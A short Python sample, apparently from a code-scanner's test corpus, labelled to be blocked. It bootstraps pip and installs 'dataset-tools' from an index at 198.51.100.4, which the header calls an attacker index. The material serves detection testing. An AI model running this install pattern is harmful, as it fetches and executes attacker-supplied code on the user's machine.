# pyguard-corpus: verdict=block category=import rules=PG101,PG206,PG207
# what: bootstraps pip with ensurepip and then installs a package from an attacker index
import ensurepip
import runpy
import sys

ensurepip.bootstrap(upgrade=True)
sys.argv = ["pip", "install", "--index-url", "http://198.51.100.4/simple", "dataset-tools"]
runpy.run_module("pip", run_name="__main__")
